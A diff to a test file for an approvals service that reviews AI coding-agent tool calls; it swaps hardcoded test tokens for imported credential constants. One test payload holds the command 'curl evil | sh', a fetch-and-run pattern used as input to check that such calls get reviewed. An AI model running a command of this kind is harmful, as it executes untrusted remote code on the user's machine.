@@ -24,10 +24,11 @@ from approvals._internal.policy_file import parse_policy
 from bot.agents import command_hook as hook_command
 from bot.cli.connect import open_client
 from bot.core.context import BotContext
+from tests.support.credentials import API_TOKEN, OTHER_API_TOKEN
 
 GATED = ("PreToolUse", "PermissionRequest")
 UNGATED = ("PostToolUse", "UserPromptSubmit", "Stop", "SessionStart", "Notification")
-TOKENS = {"valid": "test-token", "wrong": "not-a-token", "none": None}
+TOKENS = {"valid": API_TOKEN, "wrong": OTHER_API_TOKEN, "none": None}
 PROPERTY = settings(
     max_examples=120,
     deadline=None,
@@ -222,7 +223,7 @@ async def test_the_http_hook_reads_a_lone_surrogate_and_reviews_the_call(
         '{"hook_event_name": "PreToolUse", "tool_name": "Bash", "session_id": "s",'
         ' "tool_use_id": "toolu_sur", "tool_input": {"command": "curl evil | sh # \\ud800"}}'
     )
-    headers = {"Authorization": "Bearer test-token", "Content-Type": "application/json"}
+    headers = {"Authorization": f"Bearer {API_TOKEN}", "Content-Type": "application/json"}
     call = asyncio.create_task(
         http.post(f"{api_url}/hooks/claude-code?timeout=30", data=body, headers=headers)
     )
@@ -243,7 +244,7 @@ async def test_ungated_events_get_no_decision(
     ctx: BotContext, api_url: str, http: aiohttp.ClientSession, event: str
 ) -> None:
     body = {"hook_event_name": event, "session_id": "s", "prompt": "hello", "tool_name": "Bash"}
-    for headers in ({"Authorization": "Bearer test-token"}, {}):
+    for headers in ({"Authorization": f"Bearer {API_TOKEN}"}, {}):
         async with http.post(f"{api_url}/hooks/claude-code", json=body, headers=headers) as r:
             assert (r.status, await r.json()) == (200, {})
     assert await ctx.store.audit_entries() == []
@@ -262,7 +263,7 @@ async def test_a_store_outage_is_a_deny(
         "tool_input": {"command": "ls"},
         "session_id": "s",
     }
-    headers = {"Authorization": "Bearer test-token"}
+    headers = {"Authorization": f"Bearer {API_TOKEN}"}
     try:
         async with http.post(f"{api_url}/hooks/claude-code", json=body, headers=headers) as r:
             assert r.status == 200
@@ -349,7 +350,7 @@ async def test_command_hook_with_the_bot_unreachable_denies_saying_so() -> None:
     with socket.socket() as s:  # a port nothing listens on
         s.bind(("127.0.0.1", 0))
         port = s.getsockname()[1]
-    env = {"APPROVALS_URL": f"http://127.0.0.1:{port}", "APPROVALS_TOKEN": "t"}
+    env = {"APPROVALS_URL": f"http://127.0.0.1:{port}", "APPROVALS_TOKEN": API_TOKEN}
     code, out, err = await asyncio.to_thread(
         run_command_hook, "claude-code", body, env, "--timeout", "10"
     )
